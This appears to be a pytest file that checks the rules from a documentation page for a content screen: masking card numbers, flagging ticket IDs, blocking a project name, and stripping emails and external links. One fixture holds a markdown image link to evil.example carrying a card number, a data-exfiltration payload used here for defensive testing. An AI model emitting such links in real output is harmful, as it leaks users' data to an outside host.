"""docs/content.md: its rule file does what the page says."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from service.errors import ContentBlockedError
from service.settings import load_settings

PAGE = Path(__file__).parents[3] / "docs" / "content.md"
TEXT = "Ask jane@acme.example [1] or see ![x](https://evil.example/?q=4111111111111111) and [docs](/docs/a.md)."


@pytest.fixture(scope="module")
def listings() -> list[str]:
    return re.findall(r"```toml\n(.*?)```", PAGE.read_text(encoding="utf-8"), re.DOTALL)


def test_the_settings_of_the_page(listings: list[str], tmp_path: Path) -> None:
    (tmp_path / "quarry.toml").write_text(listings[0])
    assert load_settings(tmp_path / "quarry.toml").content.rules == Path("rules.toml")


def test_the_rules_of_the_page(listings: list[str], screen_of: Callable[[str], Any]) -> None:
    screen = screen_of(listings[1])
    masked = screen.question(
        ["Is \uff14\uff11\uff11\uff11\u20111111-1111-1111 on TICK-1234 or tick-1234?"], "query", "r"
    )
    assert masked == ["Is [card] on TICK-1234 or tick-1234?"]
    assert screen.counted == {("card", "mask", "question"): 1, ("internal-ticket", "flag", "question"): 1}
    with pytest.raises(ContentBlockedError):
        screen.question(["What is Project_Falcon?"], "query", "r")
    shown = "Ask (address removed) [1] or see [link removed] and [docs](/docs/a.md)."
    assert screen.written(*TEXT) == (shown, False)
    assert screen.written("It is project falcon.") == ("It is ", True)
    kept = "![logo](https://a.wiki.acme.example/logo.png) and https://docs.acme.example/x"
    assert screen.written(*kept) == (kept, False)
